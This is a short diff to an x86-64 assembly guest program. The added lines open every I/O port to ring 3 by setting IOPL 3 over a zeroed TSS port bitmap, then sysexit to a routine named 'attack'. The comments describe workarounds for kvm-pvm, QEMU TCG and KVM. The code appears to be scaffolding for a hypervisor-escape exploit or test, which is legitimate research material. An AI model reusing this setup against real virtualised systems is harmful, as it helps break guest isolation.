@@ -19,8 +19,11 @@
 /* sysexit with REX.W takes CS and SS from 32 and 40 above MSR_SYSENTER_CS */
 #define SYSENTER_CS 8
 /* Above the program, where no one else is, nor a header that a device wrote into a table of
-   descriptors points (a vsock response has 0x20001 for an address): the descriptor takes the address apart. Its bitmap of ports is all zeros:
-   every port is open. (IOPL 3 does not outlive the way to ring 3 everywhere.) */
+   descriptors points (a vsock response has 0x20001 for an address). Its bitmap of ports is all
+   zeros: every port is open; and by IOPL 3, since each of the two is not enough somewhere: kvm-pvm
+   forgets IOPL on the way to ring 3, and QEMU's TCG takes no TSS that is busy, as KVM gives a
+   clone its own. */
+#define IOPL_3 0x3002
 #define TSS_ADDRESS 0x180000
 #define TSS 0x38
 #define TSS_BYTES 104
@@ -69,6 +72,9 @@ guest_entry:
 long_mode:
     mov $TSS, %eax
     ltr %ax
+    mov $stack_end, %esp
+    push $IOPL_3
+    popfq
     mov $attack, %edx
     mov $stack_end - 8, %ecx
     .byte 0x48, 0x0f, 0x35 /* sysexitq: to rdx, with the stack at rcx */
